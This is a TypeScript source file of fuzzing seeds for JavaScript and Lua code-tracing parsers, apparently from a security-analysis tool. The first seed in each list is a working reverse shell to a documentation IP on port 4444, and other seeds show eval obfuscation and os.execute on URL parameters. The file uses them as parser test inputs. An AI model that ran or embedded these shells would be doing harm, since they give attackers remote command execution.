import { javascript } from '../../src/trace/languages/javascript/javascript.ts';
import { lua } from '../../src/trace/languages/lua/lua.ts';
import { scriptTarget } from './script-targets.ts';
import type { FuzzTarget } from './target.ts';

/** JavaScript. */
export const javascriptTarget: FuzzTarget = scriptTarget(javascript, [
  'const c=require("net").connect(4444,"192.0.2.1",()=>{const s=require("child_process").spawn("/bin/sh");c.pipe(s.stdin);s.stdout.pipe(c)})',
  'import {exec as e} from "node:child_process";e(`a${[..."sl"].reverse().join("")} ${String.raw`\\x`}`,(x,{y=1,...z},[,w])=>eval(y??z?.[w]))',
  'function t(){const l=["a","b"];t=function(){return l};return t()}(function(f,n){const l=f();while(!![]){try{if(parseInt(l[0])/1+n===2)break;else l.push(l.shift())}catch(e){l.push(l.shift())}}}(t,1));',
  'eval(Buffer.from("cmVxdWlyZSgiZnMiKQ==","base64").toString().replace(/(..)|[^a-z]{2,}$/gi,(m,g)=>String.fromCharCode(parseInt(g,16)^m.length)));new Function("a","return a")(this.constructor.constructor("return process")())',
  'class A extends B{#p=1;static{A.q=async function*(){for await(const k of x)yield*k}}get a(){return super.a}}switch(1){case 0:default:do{continue}while(0)}label:for(;;){break label}',
  'require("http").createServer((q,r)=>{setTimeout(q.url,1);new Promise(k=>k(q)).then(v=>v.body).finally(()=>process.kill(1))}).listen(80);x=+[]+!![]+[![]]+{}+[][[]];',
]);

/** Lua. */
export const luaTarget: FuzzTarget = scriptTarget(lua, [
  'local s=require("socket").tcp() s:connect("192.0.2.1",4444) while true do local c=s:receive() local f=io.popen(c) s:send(f:read("*a")) end',
  'local t={1,["a"]=2,b=3,...} for k,v in pairs(t) do t[#t+1]=("x"):rep(3,","):sub(-2) end for i=9,1,-2 do goto e end ::e::',
  'load((("6c73"):gsub("%x%x",function(h) return string.char(tonumber(h,16)) end)))() local a,b=string.byte("ab",1,-1) return a~b,a//b,a..b',
  'local M={} function M:f(...) local a,b=... return self.x and a or not b end function M.g(self) repeat os.execute([==[ls]==]) until pcall(M.f,1) end',
  'local f=io.open("/x","a") f:write(("%5.2f%%%q"):format(1,"\\065\\x41\\z  \\u{41}")) f:close() ngx.say(ngx.var.arg_x) os.execute(ngx.req.get_uri_args().c)',
]);
